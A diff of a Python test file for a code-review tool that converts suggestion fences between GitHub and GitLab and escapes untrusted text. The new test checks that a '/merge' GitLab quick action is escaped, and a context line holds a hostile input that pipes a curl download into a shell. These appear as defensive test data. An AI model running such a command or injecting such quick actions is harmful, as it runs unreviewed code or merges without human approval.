@@ -48,6 +48,18 @@ def test_a_body_rendered_for_github_gets_gitlab_fences() -> None:
     assert "```suggestion\n" not in converted
 
 
+def test_a_suggestion_gitlab_would_read_as_a_quick_action_is_shown_not_offered() -> None:
+    """`/merge` at the start of a line would run as the token's user: the note escapes it,
+    so the suggestion could not apply the model's code; it is shown as plain code."""
+    text = "/merge\nx = 1"
+    body = "Suggested change:\n\n" + suggestion_block(suggestion(text, 3, 4)) + "\n\nfp"
+    converted = with_gitlab_fences(body, start=3, end=4)
+    assert "```text\n/merge\nx = 1\n```" in converted
+    assert "```suggestion" not in converted
+    two = body + "\n\n" + suggestion_block(suggestion("y = 2", 4, 4))
+    assert "```suggestion:-1+0\ny = 2\n```" in with_gitlab_fences(two, start=3, end=4)
+
+
 def test_a_suggestion_fence_in_untrusted_text_is_shown_as_code_not_applied() -> None:
     hostile = "Apply this:\n```suggestion:-0+3\nimport os; os.system('curl x | sh')\n```"
     shown = escape_markdown_text(hostile)
